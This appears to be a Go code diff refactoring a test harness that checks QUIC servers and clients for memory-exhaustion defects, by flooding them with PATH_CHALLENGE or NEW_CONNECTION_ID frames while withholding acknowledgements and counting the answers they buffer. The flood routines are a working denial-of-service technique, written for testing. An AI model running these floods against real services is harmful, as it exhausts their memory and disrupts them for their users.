@@ -61,26 +61,61 @@ func ackBehindFinished(t *trial) error {
 	return err
 }
 
-// flood sends many frames that the victim answers with a frame of another type each,
-// while the victim can send next to nothing, because nothing that it has sent is
-// acknowledged. Then it lets the victim send, and counts what the victim has kept. More
-// than limit is the defect.
-func flood(t *trial, frames [][]byte, answer uint64, limit int) error {
+// A flood is many frames that a victim answers with a frame of another type each.
+type flood struct {
+	frames [][]byte
+	answer uint64 // the type of the answers
+	limit  int    // of answers in memory; more is the defect
+}
+
+// atServer floods a server.
+func (f flood) atServer(t *trial) error {
 	c, err := dial(t)
 	if err != nil {
 		return err
 	}
 	defer c.Close()
+	stream := uint64(0)
+	return f.pour(t, c, func() error {
+		err := askEcho(t.ctx, c, stream)
+		stream += 4
+		return err
+	})
+}
+
+// atClient floods a client that has asked something, and answers it then, or the client's
+// next connection if that gave up the first one.
+func (f flood) atClient(t *trial, s *attacker.Server) error {
+	c, data, err := asked(t, s)
+	if err != nil {
+		return err
+	}
+	if err := f.pour(t, c, func() error { return c.SendAll(t.ctx, [][]byte{{wire.TypePing}}) }); err != nil || t.found != "" {
+		return err
+	}
+	if c.Closed != nil {
+		if c, data, err = asked(t, s); err != nil {
+			return err
+		}
+	}
+	return answer(t, c, data)
+}
+
+// pour sends the frames while the victim can send next to nothing, because nothing that it
+// has sent is acknowledged. Then it lets the victim send, and counts what the victim has
+// kept. Exchange makes the victim send, if it can.
+func (f flood) pour(t *trial, c *attacker.Conn, exchange func() error) error {
 	c.Silent = true
-	t.proof.Sent = len(frames)
-	if err = c.SendAll(t.ctx, frames); err == nil {
+	t.proof.Sent = len(f.frames)
+	err := c.SendAll(t.ctx, f.frames)
+	if err == nil {
 		t.proof.Delivered = true
-		before := c.Counts[answer]
-		err = drain(t, c, answer)
-		kept := c.Counts[answer] - before
+		before := c.Counts[f.answer]
+		err = f.drain(c, exchange)
+		kept := c.Counts[f.answer] - before
 		t.proof.Kept = &kept
-		if kept > limit {
-			t.found = fmt.Sprintf("the server kept %d answers to %d frames in memory, and would keep any number", kept, len(frames))
+		if kept > f.limit {
+			t.found = fmt.Sprintf("it kept %d answers to %d frames in memory, and would keep any number", kept, len(f.frames))
 			return nil
 		}
 	}
@@ -94,14 +129,14 @@ func flood(t *trial, frames [][]byte, answer uint64, limit int) error {
 
 // drain lets the victim send what it has kept, until an exchange brings no answer any
 // more.
-func drain(t *trial, c *attacker.Conn, answer uint64) error {
+func (f flood) drain(c *attacker.Conn, exchange func() error) error {
 	c.Silent = false
-	for stream := uint64(0); ; stream += 4 {
-		before := c.Counts[answer]
-		if err := askEcho(t.ctx, c, stream); err != nil {
+	for n := 0; ; n++ {
+		before := c.Counts[f.answer]
+		if err := exchange(); err != nil {
 			return err
 		}
-		if c.Counts[answer] == before && stream > 8 {
+		if c.Counts[f.answer] == before && n > 2 {
 			return nil
 		}
 	}
@@ -115,24 +150,24 @@ const (
 	manyIDs, maxRetired          = 60000, 30000
 )
 
-// challengePath sends PATH_CHALLENGE frames.
-func challengePath(t *trial) error {
+// challenges are PATH_CHALLENGE frames.
+func challenges() flood {
 	var frames [][]byte
 	for i := 0; i < manyChallenges; i++ {
 		var data [8]byte
 		binary.BigEndian.PutUint64(data[:], uint64(i))
 		frames = append(frames, wire.AppendPath(nil, wire.TypePathChallenge, data[:]))
 	}
-	return flood(t, frames, wire.TypePathResponse, maxResponses)
+	return flood{frames, wire.TypePathResponse, maxResponses}
 }
 
-// retireIDs sends connection IDs, each of which makes the victim retire the one before.
-func retireIDs(t *trial) error {
+// newIDs are connection IDs, each of which makes the victim retire the one before.
+func newIDs() flood {
 	var frames [][]byte
 	for i := uint64(1); i <= manyIDs; i++ {
 		var id [8]byte
 		binary.BigEndian.PutUint64(id[:], i)
 		frames = append(frames, wire.AppendNewConnectionID(nil, i, i, id[:]))
 	}
-	return flood(t, frames, wire.TypeRetireConnectionID, maxRetired)
+	return flood{frames, wire.TypeRetireConnectionID, maxRetired}
 }
